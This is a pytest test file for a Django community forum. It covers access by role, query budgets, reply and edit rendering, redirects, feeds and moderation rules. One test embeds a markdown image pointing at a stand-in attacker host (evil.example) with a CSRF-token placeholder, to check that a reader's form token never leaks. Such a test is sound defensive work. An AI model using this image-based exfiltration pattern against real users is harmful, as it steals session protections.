"""Pages of threads in a browser: who sees what, how many statements, nothing typed is lost."""

from __future__ import annotations

import json
import re
import xml.etree.ElementTree as ET
from html import unescape
from urllib.parse import quote

import pytest
from django.test import Client
from pytest_django import DjangoAssertNumQueries

from folkmoot.communities.commands import change_community
from folkmoot.communities.commands.guidelines import publish_guidelines
from folkmoot.communities.models import Community
from folkmoot.communities.queries import forget_kept_communities
from folkmoot.content import commands
from folkmoot.content.models import Post, Thread
from folkmoot.content.rendering.card import draw_card
from folkmoot.core.testing.cast import Cast
from folkmoot.members.models import Membership

PREFIX = "/c/moorland"
STATEMENTS_AT_MOST = 12


def a_thread(cast: Cast, space: str = "forum", replies: int = 0) -> Thread:
    thread = commands.create_thread(
        actor=cast.actor(cast.mia), space=getattr(cast, space), title="A walk on the moor", markdown="Who joins?"
    )
    for n in range(replies):
        commands.create_post(actor=cast.actor(cast.max), thread=thread, markdown=f"Reply {n}")
    return thread


def browser(member: Membership | None) -> Client:
    client = Client()
    if member is not None:
        assert member.account is not None
        client.force_login(member.account, backend="django.contrib.auth.backends.ModelBackend")
    return client


def page_of(thread: Thread) -> str:
    return f"{PREFIX}/t/{thread.id}/{thread.slug}/"


@pytest.mark.parametrize(
    ("space", "who", "status"),
    [
        ("forum", None, 200),
        ("forum", "nils", 200),
        ("lounge", None, 404),
        ("lounge", "nils", 200),
        ("backroom", None, 404),
        ("backroom", "nils", 404),
        ("backroom", "otto", 404),
        ("backroom", "mia", 200),
        ("backroom", "max", 200),
    ],
)
def test_a_thread_is_there_for_who_may_read_its_space(cast: Cast, space: str, who: str | None, status: int) -> None:
    thread = a_thread(cast, space)
    client = browser(getattr(cast, who) if who else None)
    assert client.get(page_of(thread)).status_code == status
    assert client.get(f"{PREFIX}/s/{space}/").status_code == status
    assert client.get(f"{PREFIX}/t/{thread.id}/feed.atom").status_code in (status, 404)


@pytest.mark.parametrize("replies", [0, 24])
def test_a_thread_page_takes_few_statements_whatever_its_length(
    cast: Cast, replies: int, django_assert_max_num_queries: DjangoAssertNumQueries
) -> None:
    thread, client = a_thread(cast, replies=replies), browser(cast.nils)
    client.get(page_of(thread))
    with django_assert_max_num_queries(STATEMENTS_AT_MOST):
        assert client.get(page_of(thread)).status_code == 200


@pytest.mark.parametrize("threads", [1, 22])
def test_a_space_page_takes_few_statements_whatever_its_length(
    cast: Cast, threads: int, django_assert_max_num_queries: DjangoAssertNumQueries
) -> None:
    for n in range(threads):
        commands.create_thread(actor=cast.actor(cast.max), space=cast.forum, title=f"Walk {n}", markdown=f"Join {n}?")
    client = browser(cast.nils)
    client.get(f"{PREFIX}/s/forum/")
    with django_assert_max_num_queries(STATEMENTS_AT_MOST):
        assert client.get(f"{PREFIX}/s/forum/").status_code == 200


def test_a_reply_is_on_the_page_at_once(cast: Cast) -> None:
    thread, client = a_thread(cast), browser(cast.max)
    browser(None).get(page_of(thread))
    sent = client.post(f"{PREFIX}/t/{thread.id}/reply/", {"markdown": "I bring **tea**."})
    assert sent.status_code == 302
    assert Post.objects.filter(thread=thread).count() == 2
    assert "<strong>tea</strong>" in browser(None).get(page_of(thread)).content.decode()


def test_an_edit_is_on_the_page_at_once(cast: Cast) -> None:
    thread = a_thread(cast)
    browser(None).get(page_of(thread))
    post = Post.objects.get(thread=thread)
    commands.edit_post(actor=cast.actor(cast.mia), post=post, markdown="Who comes along?")
    assert "Who comes along?" in browser(None).get(page_of(thread)).content.decode()


def test_what_was_typed_stands_again_when_it_is_refused(cast: Cast) -> None:
    sent = browser(cast.mia).post(f"{PREFIX}/s/forum/new/", {"title": "", "markdown": "My long text"})
    assert sent.status_code == 422
    assert "My long text" in sent.content.decode()
    assert not Thread.objects.exists()


def test_a_closed_thread_refuses_a_reply_and_keeps_its_text(cast: Cast) -> None:
    thread = commands.close_thread(actor=cast.actor(cast.mo), thread=a_thread(cast))
    sent = browser(cast.nils).post(f"{PREFIX}/t/{thread.id}/reply/", {"markdown": "My long text"})
    assert sent.status_code in (403, 422)
    assert "My long text" in sent.content.decode()


def test_new_guidelines_come_before_what_is_written_and_nothing_of_it_is_lost(cast: Cast) -> None:
    thread = a_thread(cast)
    published = publish_guidelines(
        actor=cast.actor(cast.olga), clauses=[("Be kind", "Always.")], introduction="", change_note=""
    )
    nils, at = browser(cast.nils), f"{PREFIX}/s/forum/new/"
    assert nils.get(at)["Location"] == f"{PREFIX}/join/?next={quote(at, safe='')}"
    assert nils.post(at, {"title": "A bog", "markdown": "My long text"}).status_code == 302
    refused = nils.post(f"{PREFIX}/t/{thread.id}/reply/", {"markdown": "My long reply"}).content.decode()
    assert "My long reply" in refused
    assert "Accept them by the link above" in refused
    Membership.everywhere.filter(id=cast.nils.id).update(accepted_guidelines=published)
    assert "My long text" in nils.get(at).content.decode()


def test_a_visitor_gets_no_cookie_and_no_form_token(cast: Cast) -> None:
    seen = browser(None).get(page_of(a_thread(cast)))
    assert not seen.cookies
    assert "csrfmiddlewaretoken" not in seen.content.decode()


def test_another_title_leads_to_the_address_of_now(cast: Cast) -> None:
    thread = a_thread(cast)
    seen = browser(None).get(f"{PREFIX}/t/{thread.id}/something-else/?from=1")
    assert (seen.status_code, seen["Location"]) == (301, f"{page_of(thread)}?from=1")


def test_a_merged_thread_leads_to_where_it_went(cast: Cast) -> None:
    target, source = a_thread(cast), commands.create_thread(
        actor=cast.actor(cast.max), space=cast.forum, title="Another walk", markdown="Soon?"
    )  # fmt: skip
    commands.merge_threads(actor=cast.actor(cast.mo), source=source, target=target)
    seen = browser(None).get(page_of(source))
    assert seen.status_code == 301
    assert seen["Location"].startswith(page_of(target))
    asked = browser(None).get(f"{PREFIX}/api/v1/threads/{source.id}")
    assert (asked.status_code, asked["Location"]) == (301, f"{PREFIX}/api/v1/threads/{target.id}")


def test_feeds_are_well_formed_and_hold_public_threads_only(cast: Cast) -> None:
    a_thread(cast)
    commands.create_thread(actor=cast.actor(cast.mia), space=cast.backroom, title="Secret walk", markdown="Hush")
    for path in ("feed.atom", "s/forum/feed.atom"):
        seen = browser(None).get(f"{PREFIX}/{path}")
        root = ET.fromstring(seen.content)
        assert root.tag == "{http://www.w3.org/2005/Atom}feed"
        assert "Secret walk" not in seen.content.decode()


def test_an_entry_of_a_feed_keeps_its_name_and_leads_home(cast: Cast) -> None:
    thread = commands.create_thread(
        actor=cast.actor(cast.mia), space=cast.forum, title="Harrow & plough", markdown="If `a <b>` c\n\nsee #kale"
    )
    entries = browser(None).get(f"{PREFIX}/feed.atom").content.decode()
    assert f"<id>{cast.community.address}t/{thread.id}/</id>" in entries
    assert "If a &amp;lt;b&amp;gt; c" in entries
    posts = browser(None).get(f"{PREFIX}/t/{thread.id}/feed.atom").content.decode()
    assert f'href="{cast.community.address}tags/kale/"' in unescape(posts)


def test_a_shared_page_says_of_itself_what_it_is_and_a_later_one_does_not_pose_as_its_first(cast: Cast) -> None:
    thread = a_thread(cast, replies=2)
    page = browser(None).get(page_of(thread)).content.decode()
    assert f'content="http://testserver{page_of(thread)}"' in page
    assert "og:image:alt" in page
    later = browser(None).get(f"{page_of(thread)}?from=2").content.decode()
    said = json.loads(later.split('application/ld+json">')[1].split("</script>")[0])["@graph"][0]
    assert (said["text"], len(said["comment"])) == (thread.excerpt, 2)


def test_a_page_is_known_by_one_address_whichever_way_it_is_asked(cast: Cast) -> None:
    thread = a_thread(cast)
    change_community(actor=cast.actor(cast.olga), community=cast.community, host="moor.example.org")
    canonical = f'rel="canonical"[^>]*href="http://moor.example.org/t/{thread.id}/{thread.slug}/"'
    assert re.search(canonical, browser(None).get(page_of(thread)).content.decode())
    own = browser(None).get(page_of(thread).removeprefix(PREFIX), headers={"host": "moor.example.org"})
    assert re.search(canonical, own.content.decode())


@pytest.mark.parametrize(("who", "status"), [(None, (302, 403)), ("nils", (403,)), ("mo", (302,))])
def test_only_staff_close_a_thread(cast: Cast, who: str | None, status: tuple[int, ...]) -> None:
    thread = a_thread(cast)
    client = browser(getattr(cast, who) if who else None)
    assert client.post(f"{PREFIX}/t/{thread.id}/closure/", {"reason": "done"}).status_code in status
    thread.refresh_from_db()
    assert (thread.closed_at is not None) == (who == "mo")


def test_who_writes_first_chooses_where(cast: Cast) -> None:
    page = browser(cast.nils).get(f"{PREFIX}/write/").content.decode()
    assert f"{PREFIX}/s/forum/new/" in page
    assert f"{PREFIX}/s/backroom/new/" not in page


@pytest.mark.parametrize(("replies_before", "times"), [(0, 1), (1, 2)])
def test_an_accepted_answer_stands_below_the_question_unless_it_does_so_anyway(
    cast: Cast, replies_before: int, times: int
) -> None:
    thread = a_thread(cast, "questions", replies=replies_before)
    answer = commands.create_post(actor=cast.actor(cast.max), thread=thread, markdown="Before breakfast.")
    commands.accept_answer(actor=cast.actor(cast.mia), post=answer)
    page = browser(cast.nils).get(page_of(thread)).content.decode()
    assert page.count("Before breakfast.") == times


@pytest.mark.parametrize(("who", "is_shown"), [(None, False), ("mia", False), ("max", True)])
def test_the_way_to_what_needs_a_manager_is_shown_to_who_may_go(cast: Cast, who: str | None, is_shown: bool) -> None:
    page = browser(getattr(cast, who) if who else None).get(f"{PREFIX}/latest/").content.decode()
    assert (f'"{PREFIX}/settings/"' in page) is is_shown
    assert f'"{PREFIX}/latest/"' in page


def test_search_engines_are_told_question_answer_and_the_way_there(cast: Cast) -> None:
    thread = a_thread(cast, "questions", replies=2)
    commands.accept_answer(actor=cast.actor(cast.mia), post=Post.everywhere.get(thread=thread, number=3))
    page = browser(None).get(page_of(thread)).content.decode()
    question, trail = json.loads(page.split('application/ld+json">')[1].split("</script>")[0])["@graph"]
    answers = question["mainEntity"]
    assert (question["@type"], answers["acceptedAnswer"]["@type"]) == ("QAPage", "Answer")
    assert [answer["text"] for answer in answers["suggestedAnswer"]] == ["Reply 0"]
    assert [step["name"] for step in trail["itemListElement"]] == ["Moorland", "Questions", "A walk on the moor"]


def test_what_is_written_never_carries_the_form_token_of_its_reader_away(cast: Cast) -> None:
    thread = a_thread(cast)
    text = "![x](https://evil.example/?@@csrf@@)"
    commands.create_post(actor=cast.actor(cast.max), thread=thread, markdown=text)
    assert 'src="https://evil.example/?@@csrf@@"' in browser(cast.mia).get(page_of(thread)).content.decode()


@pytest.mark.parametrize("address", ["latest/?page=²", "t/1/news/?after=²", "t/1/reply/?to=²", "files/1/x?w=²"])
def test_a_sign_that_is_no_number_in_an_address_breaks_nothing(cast: Cast, address: str) -> None:
    a_thread(cast)
    assert browser(cast.mia).get(f"{PREFIX}/{address}").status_code in (200, 404)


def test_what_somebody_wrote_is_listed_for_those_who_may_know_of_them(cast: Cast) -> None:
    page = f"{PREFIX}/m/mia/posts/"
    assert browser(None).get(page).status_code == 200
    Community.objects.filter(id=cast.community.id).update(visibility="members")
    forget_kept_communities()
    assert browser(None).get(page).status_code == 404
    assert browser(cast.max).get(page).status_code == 200


def test_who_curates_without_moderating_neither_reads_nor_splits_off_what_was_hidden(cast: Cast) -> None:
    thread = a_thread(cast, replies=2)
    hidden = Post.objects.get(thread=thread, number=2)
    commands.hide_post(actor=cast.actor(cast.olga), post=hidden)
    Membership.everywhere.filter(id=cast.nils.id).update(trust_level=4)
    form = f"{PREFIX}/t/{thread.id}/split/"
    shown = browser(cast.nils).get(form).content.decode()
    assert ("Reply 1" in shown, "Reply 0" in shown) == (True, False)
    browser(cast.nils).post(form, {"title": "Taken along", "space": "forum", "post": [hidden.id]})
    assert Post.objects.get(id=hidden.id).thread_id == thread.id
    assert "Reply 0" in browser(cast.mo).get(form).content.decode()


def test_the_picture_of_a_thread_has_no_boxes_for_letters_that_the_font_lacks() -> None:
    plain, odd, blank = (draw_card(Thread(title=title), "Moor", "#446655") for title in ("Peat", "泥炭", ""))
    assert odd == blank != plain


def test_a_page_has_no_indents_but_those_of_code(cast: Cast) -> None:
    thread = a_thread(cast, replies=0)
    code = "<pre><code>if so:\n    go()\n</code></pre>"
    thread.posts.update(html=code, revision=1_000)
    page = browser(cast.nils).get(page_of(thread)).content.decode()
    post = page[page.index('<article class="post') : page.index("</article>")]
    assert code in post
    assert "\n " not in post.replace(code, "")
